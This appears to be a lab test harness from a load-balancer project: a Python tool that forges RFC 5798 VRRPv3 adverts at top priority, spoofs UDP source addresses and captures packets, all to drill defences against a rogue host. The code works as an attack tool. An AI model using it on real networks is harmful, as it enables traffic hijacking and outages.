"""What a host that is not a peer can send: forged VRRPv3 adverts and UDP
datagrams with any source address. Run inside a lab namespace (the rogue's,
or a load-balancer host's for `capture`), never in the root one.

    python -m halb.lab.rogue vrrp --vrid 51 --vip 192.0.2.10 --source S --targets A,B
                                  [--ttl 255] [--priority 255] [--count 40] [--interval 0.05]
    python -m halb.lab.rogue udp --source S --target T --port P --payload-hex H
    python -m halb.lab.rogue capture --port P --seconds S     (JSON lines: source, payload_hex)

The adverts are RFC 5798's, checksum and all (`vrrp_advert`): keepalived
obeys them when nothing filters them (tests/test_hostile.py shows it), so a
drill in which they change nothing measures the defence, not a malformed packet.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import select
import socket
import struct
import sys
import time

IPPROTO_VRRP = 112
VRRP_V3_ADVERT = 0x31  # version 3, type 1 (advertisement)
ETH_P_IP = 0x0800


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = int(sum(struct.unpack(f"!{len(data) // 2}H", data)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_header(source: str, target: str, proto: int, payload_len: int, ttl: int) -> bytes:
    """An IPv4 header with any source address (the kernel sends it as given: IP_HDRINCL)."""
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0xC0, 20 + payload_len, 0, 0, ttl, proto, 0,
        socket.inet_aton(source), socket.inet_aton(target),
    )  # fmt: skip
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:]


def vrrp_advert(vrid: int, priority: int, advert_cs: int, vips: list[str], source: str, target: str) -> bytes:
    """A VRRPv3 advertisement, its checksum over the IPv4 pseudo-header (RFC 5798 5.2.8)."""
    addrs = b"".join(socket.inet_aton(v) for v in vips)
    body = struct.pack("!BBBBHH", VRRP_V3_ADVERT, vrid, priority, len(vips), advert_cs & 0x0FFF, 0) + addrs
    pseudo = (
        socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, IPPROTO_VRRP, len(body))
    )
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def udp_datagram(source: str, target: str, sport: int, dport: int, payload: bytes) -> bytes:
    length = 8 + len(payload)
    pseudo = (
        socket.inet_aton(source)
        + socket.inet_aton(target)
        + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
    )
    header = struct.pack("!HHHH", sport, dport, length, 0)
    csum = checksum(pseudo + header + payload) or 0xFFFF
    return struct.pack("!HHHH", sport, dport, length, csum) + payload


def send_raw(packets: list[tuple[str, bytes]]) -> int:
    """Send (target, full IPv4 packet) pairs; how many went out."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for target, packet in packets:
            try:
                s.sendto(packet, (target, 0))
                sent += 1
            except OSError as err:
                print(f"rogue: cannot send to {target}: {err}", file=sys.stderr)
    return sent


def vrrp(args: argparse.Namespace) -> int:
    targets = [t for t in args.targets.split(",") if t]
    sent = 0
    for _ in range(args.count):  # bounded
        packets = []
        for target in targets:
            advert = vrrp_advert(args.vrid, args.priority, int(args.interval * 100) or 1, [args.vip],
                                 args.source, target)  # fmt: skip
            packets.append(
                (target, ip_header(args.source, target, IPPROTO_VRRP, len(advert), args.ttl) + advert)
            )
        sent += send_raw(packets)
        time.sleep(args.interval)
    print(json.dumps({"sent": sent}))
    return 0


def udp(args: argparse.Namespace) -> int:
    payload = bytes.fromhex(args.payload_hex)
    datagram = udp_datagram(args.source, args.target, args.sport, args.port, payload)
    packet = ip_header(args.source, args.target, socket.IPPROTO_UDP, len(datagram), args.ttl) + datagram
    print(json.dumps({"sent": send_raw([(args.target, packet)])}))
    return 0


def capture(args: argparse.Namespace) -> int:
    """UDP datagrams to --port seen on this namespace's links, for --seconds (a packet
    socket: it sees them whatever the firewall or the listener then does)."""
    deadline = time.monotonic() + args.seconds
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as s:
        print(json.dumps({"listening": True}), flush=True)
        for _ in range(100_000):  # bounded by count as well as by time
            left = deadline - time.monotonic()
            if left <= 0:
                break
            ready, _, _ = select.select([s], [], [], left)
            if not ready:
                continue
            data = s.recv(65535)
            if len(data) < 28 or data[9] != socket.IPPROTO_UDP:
                continue
            ihl = (data[0] & 0x0F) * 4
            dport = struct.unpack("!H", data[ihl + 2 : ihl + 4])[0]
            if dport != args.port:
                continue
            source = socket.inet_ntoa(data[12:16])
            print(
                json.dumps({"source": source, "payload_hex": data[ihl + 8 :].hex(), "at": time.time()}),
                flush=True,
            )
    return 0


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="halb.lab.rogue")
    sub = p.add_subparsers(dest="command", required=True)
    v = sub.add_parser("vrrp")
    v.add_argument("--vrid", type=int, required=True)
    v.add_argument("--vip", type=ipaddress.IPv4Address, required=True)
    v.add_argument("--source", required=True)
    v.add_argument("--targets", required=True)
    v.add_argument("--ttl", type=int, default=255)
    v.add_argument("--priority", type=int, default=255)
    v.add_argument("--count", type=int, default=40)
    v.add_argument("--interval", type=float, default=0.05)
    u = sub.add_parser("udp")
    u.add_argument("--source", required=True)
    u.add_argument("--target", required=True)
    u.add_argument("--port", type=int, required=True)
    u.add_argument("--sport", type=int, default=40000)
    u.add_argument("--ttl", type=int, default=64)
    u.add_argument("--payload-hex", required=True)
    c = sub.add_parser("capture")
    c.add_argument("--port", type=int, required=True)
    c.add_argument("--seconds", type=float, required=True)
    args = p.parse_args(argv)
    if args.command == "vrrp":
        args.vip = str(args.vip)
        return vrrp(args)
    return udp(args) if args.command == "udp" else capture(args)


if __name__ == "__main__":
    sys.exit(main())
